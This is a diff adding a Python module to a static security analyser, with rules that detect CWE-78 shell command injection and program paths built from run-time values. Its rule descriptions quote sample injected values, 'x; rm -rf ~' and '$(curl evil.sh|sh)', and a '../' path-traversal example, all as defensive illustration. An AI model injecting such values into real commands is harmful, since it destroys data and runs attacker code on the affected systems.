@@ -1,0 +1,382 @@
+"""CWE-78: operating-system commands whose text or program is chosen at run time.
+
+Two rules. `shell-command-injection` is the one that matters: a command line handed to a shell
+(`shell=True`, `os.system`, `os.popen`, `sh -c ...`) with a value spliced in, where `;`, `|` or
+`$(...)` in that value run further commands. `dynamic-program-execution` reports the `os.exec*` /
+`os.spawn*` / `os.posix_spawn*` family when the program path itself is assembled from run-time
+values (a program passed through whole, as wrappers do, is not reported). Argument lists passed
+without a shell (`subprocess.run(["git", "clone", url])`) are the recommended fix, not a finding:
+without a shell there are no metacharacters, and what remains (option injection, CWE-88) cannot be
+told from normal use by looking at one call.
+"""
+
+from __future__ import annotations
+
+import ast
+import re
+from collections.abc import Iterator
+
+from secreview.analysis.rules._injection_helpers import (
+    Piece,
+    assembly_evidence,
+    code,
+    fixed_text,
+    is_fixed,
+    is_number_conversion,
+    looks_internal,
+    name_values,
+    sequence_elements,
+    single_value,
+    string_pieces,
+)
+from secreview.analysis.rules.base import Hit, rule
+from secreview.findings import Confidence, Severity
+from secreview.index.context import ModuleContext
+
+_MODULES = ("subprocess", "os", "commands", "popen2", "platform", "asyncio")
+
+# Always run their command through `/bin/sh -c` (or `cmd.exe /c`): position and keyword of the
+# command. The popen2 family only does so for a string command, never for a list.
+_SHELL_CALLS: dict[str, tuple[int, str]] = {
+    "subprocess.getoutput": (0, "cmd"),
+    "subprocess.getstatusoutput": (0, "cmd"),
+    "os.system": (0, "command"),
+    "os.popen": (0, "cmd"),
+    "os.popen2": (0, "cmd"),
+    "os.popen3": (0, "cmd"),
+    "os.popen4": (0, "cmd"),
+    "commands.getoutput": (0, "cmd"),
+    "commands.getstatusoutput": (0, "cmd"),
+    "popen2.popen2": (0, "cmd"),
+    "popen2.popen3": (0, "cmd"),
+    "popen2.popen4": (0, "cmd"),
+    "popen2.Popen3": (0, "cmd"),
+    "popen2.Popen4": (0, "cmd"),
+    "platform.popen": (0, "cmd"),
+    "asyncio.create_subprocess_shell": (0, "cmd"),
+}
+_SUBPROCESS_CALLS = frozenset(
+    {
+        "subprocess.run",
+        "subprocess.call",
+        "subprocess.check_call",
+        "subprocess.check_output",
+        "subprocess.Popen",
+    }
+)
+# os.exec*/spawn*/posix_spawn*: (position of the program, position of argv, argv is one sequence
+# (else the remaining positional arguments), the last positional argument is the environment).
+_EXEC_CALLS: dict[str, tuple[int, int, bool, bool]] = {
+    "os.execl": (0, 1, False, False),
+    "os.execle": (0, 1, False, True),
+    "os.execlp": (0, 1, False, False),
+    "os.execlpe": (0, 1, False, True),
+    "os.execv": (0, 1, True, False),
+    "os.execve": (0, 1, True, False),
+    "os.execvp": (0, 1, True, False),
+    "os.execvpe": (0, 1, True, False),
+    "os.spawnl": (1, 2, False, False),
+    "os.spawnle": (1, 2, False, True),
+    "os.spawnlp": (1, 2, False, False),
+    "os.spawnlpe": (1, 2, False, True),
+    "os.spawnv": (1, 2, True, False),
+    "os.spawnve": (1, 2, True, False),
+    "os.spawnvp": (1, 2, True, False),
+    "os.spawnvpe": (1, 2, True, False),
+    "os.posix_spawn": (0, 1, True, False),
+    "os.posix_spawnp": (0, 1, True, False),
+}
+_POSIX_SHELLS = frozenset(
+    {"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "csh", "tcsh", "fish"}
+)
+_POSIX_COMMAND_OPTION = re.compile(r"^-[a-zA-Z]*c[a-zA-Z]*$")  # -c, -lc, -ec, -xc ...
+_WINDOWS_SHELLS: dict[str, frozenset[str]] = {
+    "cmd": frozenset({"/c", "/k"}),
+    "cmd.exe": frozenset({"/c", "/k"}),
+    "powershell": frozenset({"-c", "-command"}),
+    "powershell.exe": frozenset({"-c", "-command"}),
+    "pwsh": frozenset({"-c", "-command"}),
+    "pwsh.exe": frozenset({"-c", "-command"}),
+}
+_PATH_JOINS = frozenset({"os.path.join", "posixpath.join", "ntpath.join"})
+_SHELL_QUOTING = frozenset({"shlex.quote", "pipes.quote", "shlex.join"})
+# The interpreter re-executing itself (`os.execv(sys.executable, [sys.executable, *sys.argv])`) is
+# a standard idiom, not an attacker-chosen program.
+_OWN_PROGRAM = frozenset({"sys.executable", "sys.argv", "sys.orig_argv", "sys._base_executable"})
+
+_SHELL_FIX = (
+    "Pass the program and its arguments as a list without a shell "
+    '(`subprocess.run(["ping", "-c", "1", host])`); if a shell is unavoidable, quote every '
+    "run-time value with `shlex.quote`."
+)
+
+
+def _is_shell_quoted(context: ModuleContext, expr: ast.expr) -> bool:
+    """Whether `expr` is quoted for the shell: `shlex.quote(x)`, `shlex.join(xs)`, or a join of
+    quoted items (`" ".join(shlex.quote(a) for a in args)`, `" ".join(map(shlex.quote, args))`)."""
+    if not isinstance(expr, ast.Call):
+        return False
+    if context.call_name(expr) in _SHELL_QUOTING:
+        return True
+    if not (
+        isinstance(expr.func, ast.Attribute)
+        and expr.func.attr == "join"
+        and fixed_text(context, expr.func.value) is not None
+        and len(expr.args) == 1
+    ):
+        return False
+    items = expr.args[0]
+    if isinstance(items, ast.GeneratorExp | ast.ListComp):
+        return _is_shell_quoted(context, items.elt)
+    return (
+        isinstance(items, ast.Call)
+        and context.call_name(items) == "map"
+        and len(items.args) == 2
+        and context.resolve(items.args[0]) in _SHELL_QUOTING
+    )
+
+
+def _is_own_program(context: ModuleContext, expr: ast.expr) -> bool:
+    """Whether `expr` names the running interpreter or script, or a fixed tool found on PATH."""
+    while isinstance(expr, ast.Subscript | ast.Starred):
+        expr = expr.value
+    if context.resolve(expr) in _OWN_PROGRAM:
+        return True
+    return (
+        isinstance(expr, ast.Call)
+        and context.call_name(expr) == "shutil.which"
+        and len(expr.args) >= 1
+        and is_fixed(context, expr.args[0])
+    )
+
+
+def _unquoted_values(context: ModuleContext, command: ast.expr) -> list[Piece]:
+    """The run-time values spliced into a command line without shell quoting."""
+    return [
+        p
+        for p in string_pieces(context, command)
+        if p.node is not None
+        and p.is_dynamic
+        and not _is_shell_quoted(context, p.node)
+        and not is_number_conversion(context, p.node)
+        and not _is_own_program(context, p.node)
+    ]
+
+
+def _truthy_constant(context: ModuleContext, expr: ast.expr | None) -> bool:
+    value = context.constant_value(expr)
+    return isinstance(value, bool | int | str) and bool(value)
+
+
+def _shell_command_in_argv(
+    context: ModuleContext, program: ast.expr, arguments: list[ast.expr]
+) -> ast.expr | None:
+    """The command text when `program arguments...` is a shell told to run it (`sh -c TEXT`)."""
+    path = fixed_text(context, program)
+    if path is None:
+        return None
+    base = re.split(r"[\\/]", path)[-1].lower()
+    if base == "env":  # `env [-i] [NAME=value ...] sh -c TEXT`
+        for position, argument in enumerate(arguments):
+            text = fixed_text(context, argument)
+            if text is None:
+                return None
+            if not (text.startswith("-") or "=" in text):
+                return _shell_command_in_argv(context, argument, arguments[position + 1 :])
+        return None
+    windows = _WINDOWS_SHELLS.get(base)
+    if base not in _POSIX_SHELLS and windows is None:
+        return None
+    for position, argument in enumerate(arguments[:-1]):
+        option = fixed_text(context, argument)
+        if option is None:
+            return None  # a run-time value before the command option: cannot tell what it is
+        if windows is not None and option.lower() in windows:
+            return arguments[position + 1]
+        if windows is None and _POSIX_COMMAND_OPTION.match(option):
+            return arguments[position + 1]
+    return None
+
+
+def _program_and_arguments(
+    context: ModuleContext, call: ast.Call, name: str
+) -> tuple[ast.expr, list[ast.expr]] | None:
+    """The program a non-shell process call runs and the arguments after it, when visible."""
+    if name in _EXEC_CALLS:
+        program_at, argv_at, argv_is_sequence, ends_with_environment = _EXEC_CALLS[name]
+        # these functions take their arguments by position only
+        program = ModuleContext.argument(call, program_at)
+        if program is None or ModuleContext.has_star_arguments(call):
+            return None
+        if argv_is_sequence:
+            sequence = ModuleContext.argument(call, argv_at)
+            argv = None if sequence is None else sequence_elements(context, sequence)
+        else:
+            argv = list(call.args[argv_at : len(call.args) - int(ends_with_environment)])
+        return (program, argv[1:]) if argv else None  # argv[0] is the program's own name
+    if name == "asyncio.create_subprocess_exec":
+        if not call.args or ModuleContext.has_star_arguments(call):
+            return None
+        return call.args[0], list(call.args[1:])
+    argv_expr = ModuleContext.argument(call, 0, "args")
+    argv = None if argv_expr is None else sequence_elements(context, argv_expr)
+    if not argv:
+        return None
+    return argv[0], argv[1:]
+
+
+def _command_hit(
+    context: ModuleContext, call: ast.Call, runner: str, command: ast.expr
+) -> Iterator[Hit]:
+    """A hit when `command`, run by a shell through `runner`, splices in unquoted values."""
+    values = _unquoted_values(context, command)
+    if not values:
+        return
+    nodes = [p.node for p in values if p.node is not None]
+    internal = all(looks_internal(n) for n in nodes)
+    if len(nodes) == 1 and nodes[0] is command:
+        what = f"{runner} runs `{code(context, command)}` as a whole shell command line"
+    else:
+        what = (
+            f"{runner} runs the shell command line `{code(context, command)}`, which splices "
+            f"in {name_values(context, nodes)}"
+        )
+    yield Hit(
+        node=call,
+        message=f"{what}; a `;`, `|` or `$(...)` in that text makes the shell run further "
+        "commands chosen by whoever controls it.",
+        evidence=assembly_evidence(context, values),
+        confidence=Confidence.LOW if internal else None,
+    )
+
+
+@rule(
+    id="shell-command-injection",
+    needs_untrusted_input=True,
+    name="Shell command line built from run-time values",
+    cwe=78,
+    severity=Severity.HIGH,
+    confidence=Confidence.MEDIUM,
+    summary="A command line with values spliced in is run by a shell (shell=True, os.system, "
+    "os.popen, sh -c).",
+    fix=_SHELL_FIX,
+    what_it_does="Reports commands run through a shell when the command text is not fixed in the "
+    "source: `subprocess` calls with `shell=True`, `subprocess.getoutput`/`getstatusoutput`, "
+    "`os.system`, `os.popen`, `asyncio.create_subprocess_shell`, the legacy `commands`, `popen2` "
+    "and `platform.popen`, and argument lists that start a shell on a command string "
+    '(`["sh", "-c", text]`, `os.execl("/bin/sh", "sh", "-c", text)`). Values quoted with '
+    "`shlex.quote`/`shlex.join` and numbers (`int(x)`, `%d`) are not counted.",
+    why_bad="The shell parses the whole string: a value such as `x; rm -rf ~` or "
+    "`$(curl evil.sh|sh)` spliced into `ping -c 1 {host}` runs a second command with the "
+    "application's privileges. Values that look internal often carry user data a few calls "
+    "away, so confidence is lowered, not the finding dropped, for constants and `self` fields.",
+    example='import subprocess\nsubprocess.run(f"ping -c 1 {host}", shell=True)',
+    use_instead='import subprocess\nsubprocess.run(["ping", "-c", "1", host])  # no shell',
+    references=(
+        "https://docs.python.org/3/library/subprocess.html#security-considerations",
+        "https://docs.python.org/3/library/shlex.html#shlex.quote",
+        "https://docs.python.org/3/library/os.html#os.system",
+        "https://cwe.mitre.org/data/definitions/78.html",
+    ),
+)
+def shell_command_injection(node: ast.AST, context: ModuleContext) -> Iterator[Hit]:
+    """Report shell command lines that splice in unquoted run-time values."""
+    assert isinstance(node, ast.Call)
+    if not context.imports_any(_MODULES):
+        return
+    name = context.call_name(node)
+    if name is None:
+        return
+    if name in _SHELL_CALLS:
+        position, keyword = _SHELL_CALLS[name]
+        command = ModuleContext.argument(node, position, keyword)
+        if command is None or (name.startswith("popen2.") and isinstance(command, ast.List)):
+            return
+        yield from _command_hit(context, node, f"`{name}`", command)
+        return
+    if name in _SUBPROCESS_CALLS and _truthy_constant(
+        context, ModuleContext.keyword(node, "shell")
+    ):
+        command = ModuleContext.argument(node, 0, "args")
+        if command is None:
+            return
+        argv = sequence_elements(context, command)
+        if argv is not None:  # with shell=True only the first item is the command line
+            if not argv:
+                return
+            command = argv[0]
+        yield from _command_hit(context, node, f"`{name}(..., shell=True)`", command)
+        return
+    if name in _SUBPROCESS_CALLS or name in _EXEC_CALLS or name == "asyncio.create_subprocess_exec":
+        found = _program_and_arguments(context, node, name)
+        if found is None:
+            return
+        command = _shell_command_in_argv(context, *found)
+        if command is not None:
+            shell = fixed_text(context, found[0])
+            yield from _command_hit(context, node, f"`{name}` starting `{shell}`", command)
+
+
+def _program_path_values(context: ModuleContext, program: ast.expr) -> list[ast.expr]:
+    """The run-time values a program path is built from, when it is built here from a fixed
+    part and such values (`"/opt/tools/" + name`, `os.path.join(TOOLS, name)`); else []."""
+    value = single_value(context, program)
+    if isinstance(value, ast.Call) and context.call_name(value) in _PATH_JOINS:
+        fixed = [a for a in value.args if is_fixed(context, a)]
+        chosen = [a for a in value.args if a not in fixed and not _is_own_program(context, a)]
+        return chosen if fixed and not ModuleContext.has_star_arguments(value) else []
+    if not any(p.text and p.text.strip() for p in string_pieces(context, program)):
+        return []  # passed through whole: a wrapper, not a path assembled here
+    return [p.node for p in _unquoted_values(context, program) if p.node is not None]
+
+
+@rule(
+    id="dynamic-program-execution",
+    needs_untrusted_input=True,
+    name="Process started from a program path assembled from run-time values",
+    cwe=78,
+    severity=Severity.MEDIUM,
+    confidence=Confidence.LOW,
+    summary="os.exec*/os.spawn*/os.posix_spawn* run a program whose path is built from run-time "
+    "values.",
+    fix='Pick the program from a fixed mapping (`TOOLS = {"git": "/usr/bin/git"}`; '
+    "`TOOLS[name]` fails for anything else) and pass run-time values only as its arguments.",
+    what_it_does="Reports the `os.exec*`, `os.spawn*` and `os.posix_spawn*` functions when the "
+    "program path is assembled in the function from a fixed part and run-time values "
+    '(`"/opt/tools/" + name`, `f"{BIN}/{tool}"`, `os.path.join(TOOLS_DIR, tool)`). A program '
+    "passed through whole (`os.execvp(argv[0], argv)` in a wrapper), the running interpreter "
+    "(`sys.executable`) and varying arguments are not reported: without a shell, arguments "
+    "cannot start another command.",
+    why_bad='Whoever controls the spliced value chooses what runs: `name = "../../tmp/upload"` '
+    "turns `/opt/tools/{name}` into an executable the attacker uploaded, run with the "
+    "application's privileges. The rule cannot see where the value came from, hence low "
+    "confidence.",
+    example='import os\nos.execv(f"/opt/tools/{tool}", [tool, "--version"])',
+    use_instead='import os\nTOOLS = {"git": "/usr/bin/git"}\npath = TOOLS[tool]  # KeyError for '
+    'anything else\nos.execv(path, [path, "--version"])',
+    references=(
+        "https://docs.python.org/3/library/os.html#os.execv",
+        "https://docs.python.org/3/library/os.html#os.spawnl",
+        "https://docs.python.org/3/library/os.html#os.posix_spawn",
+        "https://cwe.mitre.org/data/definitions/78.html",
+    ),
+)
+def dynamic_program_execution(node: ast.AST, context: ModuleContext) -> Iterator[Hit]:
+    """Report os.exec*/spawn*/posix_spawn* whose program path is assembled from run-time values."""
+    assert isinstance(node, ast.Call)
+    if not context.imports_any(("os",)):
+        return
+    name = context.call_name(node)
+    if name not in _EXEC_CALLS:
+        return
+    program = ModuleContext.argument(node, _EXEC_CALLS[name][0])
+    if program is None:
+        return
+    values = _program_path_values(context, program)
+    if values:
+        yield Hit(
+            node=node,
+            message=f"`{name}` starts the program `{code(context, program)}`, whose path is built "
+            f"from {name_values(context, values)}; whoever controls that value chooses what "
+            "runs (`../` reaches any executable on the machine).",
+        )
